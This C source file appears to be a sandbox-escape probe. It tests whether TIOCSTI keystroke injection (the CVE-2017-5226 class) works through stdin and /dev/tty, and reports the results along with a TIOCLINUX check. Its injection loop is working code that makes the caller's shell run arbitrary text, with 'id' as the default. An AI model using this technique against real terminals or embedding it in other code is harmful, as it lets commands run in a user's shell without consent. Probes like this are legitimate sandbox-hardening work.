/* Keystroke injection into the terminal the command shares with its caller
 * (CVE-2017-5226 class): TIOCSTI pushes bytes into the terminal's input
 * queue, where the caller's shell reads them as if typed once the command
 * exits.
 *
 *   tiocsti TEXT
 *
 * Tries TIOCSTI on stdin and on a fresh open of /dev/tty, then TIOCLINUX.
 * Prints stdin-tiocsti=..., devtty-open=..., devtty-tiocsti=...,
 * tioclinux=... (see report.h). TEXT gets a newline appended. */
#include "report.h"
#include <fcntl.h>
#include <sys/ioctl.h>
#include <unistd.h>

static long inject(int fd, const char *text)
{
	for (const char *p = text; *p; p++)
		if (ioctl(fd, TIOCSTI, p) < 0)
			return -1;
	char nl = '\n';
	return ioctl(fd, TIOCSTI, &nl);
}

int main(int argc, char **argv)
{
	unbuffered();
	const char *text = argc > 1 ? argv[1] : "id";
	report("stdin-tiocsti", inject(0, text));
	int fd = open("/dev/tty", O_RDWR | O_NOCTTY);
	report("devtty-open", fd);
	if (fd >= 0)
		report("devtty-tiocsti", inject(fd, text));
	char sub = 11; /* TIOCL_GETKMSGREDIRECT: harmless when it passes */
	report("tioclinux", ioctl(fd >= 0 ? fd : 0, TIOCLINUX, &sub));
	return 0;
}
